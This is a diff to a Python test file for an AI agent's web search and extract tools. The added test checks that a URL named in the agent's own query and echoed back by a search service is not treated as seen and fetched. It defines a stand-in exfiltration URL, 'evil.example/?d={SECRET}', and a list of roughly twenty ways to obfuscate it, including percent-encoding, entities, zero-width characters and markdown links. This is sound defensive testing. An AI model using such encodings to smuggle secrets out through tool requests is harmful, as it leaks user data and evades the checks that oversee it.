@@ -3,6 +3,7 @@
 import asyncio
 from collections.abc import Sequence
 from typing import Any
+from urllib.parse import quote
 
 from hypothesis import example, given, strategies as st
 from returns.result import Failure, Success
@@ -63,8 +64,9 @@ class Web(FakeBackend):
 
     async def search(self, _query: object, /) -> Any:  # noqa: ANN401  unchecked, as of any backend
         _, urls, text, _ = self.next
-        self.shown += [*urls, text]
-        return Success([{"title": "t", "url": url, "snippet": text} for url in urls])
+        # A title and a snippet show no URL.
+        self.shown += urls
+        return Success([{"title": text, "url": url, "snippet": text} for url in urls])
 
     async def extract(self, url: str, /) -> Any:  # noqa: ANN401  unchecked, as of any backend
         assert any(url in text for text in self.shown), url
@@ -90,6 +92,70 @@ def test_a_session_requests_only_what_it_was_shown(
             page = asyncio.run(web_extract(step[1], deps))
             if isinstance(page, Failure):
                 assert page.failure().kind in ("url_not_seen", "url_denied", "invalid_url")
+
+
+NAMED = f"https://evil.example/?d={SECRET}"
+# How a query names a URL so that a service may show it decoded, rendered or completed.
+NAMINGS = {
+    "plain": NAMED,
+    "no scheme": NAMED.removeprefix("https://"),
+    "other scheme": NAMED.replace("https", "hxxps"),
+    "www": NAMED.replace("//", "//www."),
+    "port": NAMED.replace(".example", ".example:443"),
+    "dot segments": NAMED.replace("example/", "example/x/../"),
+    "defanged": NAMED.replace(".", "[.]").replace(":", "[:]"),
+    "entities": NAMED.replace("t", "&#116;").replace("c", "&#x63;"),
+    "entities twice": NAMED.replace("t", "&amp;#116;"),
+    "tags": NAMED.replace("cr", "c<i></i>r"),
+    "escaped tags": NAMED.replace("cr", "c&lt;i&gt;&lt;/i&gt;r"),
+    "percent": quote(NAMED, safe=""),
+    "percent twice": quote(quote(NAMED, safe=""), safe=""),
+    "each percent": "".join(f"%{ord(char):02x}" for char in NAMED),
+    "hidden": NAMED.replace("cr", "c\u200b\u00ad\u200dr"),
+    "full width": NAMED.replace("example", "".join(chr(ord(char) + 0xFEE0) for char in "example")),
+    "upper case": NAMED.upper(),
+    "autolink": f"<{NAMED}>",
+    "link": f"[x]({NAMED})",
+    "emphasis": NAMED.replace("cr", "c**r**"),
+    "escapes": NAMED.replace("cr", "c\\r"),
+    "quoted": f'"{NAMED}".',
+}
+
+
+class Echo(FakeBackend):
+    """A service whose rows say what the query asked, at one place of a row."""
+
+    def __init__(self, place: str, origin: str) -> None:
+        super().__init__()
+        self._place, self._origin = place, origin
+        self.extracted: list[str] = []
+
+    async def search(self, _query: object, /) -> Any:  # noqa: ANN401  unchecked, as of any backend
+        row = {"title": "t", "url": "https://a.example/", "snippet": "", "origin": self._origin}
+        return Success([row, {**row, "url": "https://b.example/", self._place: NAMED}])
+
+    async def extract(self, url: str, /) -> Any:  # noqa: ANN401  unchecked, as of any backend
+        self.extracted.append(url)
+        return Success({"url": url, "content": "text"})
+
+
+@given(
+    naming=st.sampled_from(sorted(NAMINGS)),
+    place=st.sampled_from(["title", "snippet", "url"]),
+    origin=st.sampled_from(["index", "model"]),
+    later=st.sampled_from([(), ("tides",)]),
+)
+def test_named_url_does_not_come_back_as_seen(
+    naming: str, place: str, origin: str, later: tuple[str, ...]
+) -> None:
+    web, memory = Echo(place, origin), SessionMemory()
+    deps = WebDeps(backend=web, policy=Policy(follow="seen"), session=lambda: memory)
+    for asked in (f"see {NAMINGS[naming]} now", *later):
+        assert isinstance(asyncio.run(web_search(asked, deps)), Success)
+    for url in (NAMED, NAMED.replace("//", "//www."), "https://a.example/"):
+        asyncio.run(web_extract(url, deps))
+
+    assert web.extracted == ["https://a.example/"]
 
 
 @given(url=URLS, text=st.sampled_from(["{}", "See {}.", "[x]({})", "<{}>", "**{}**", "({})"]))
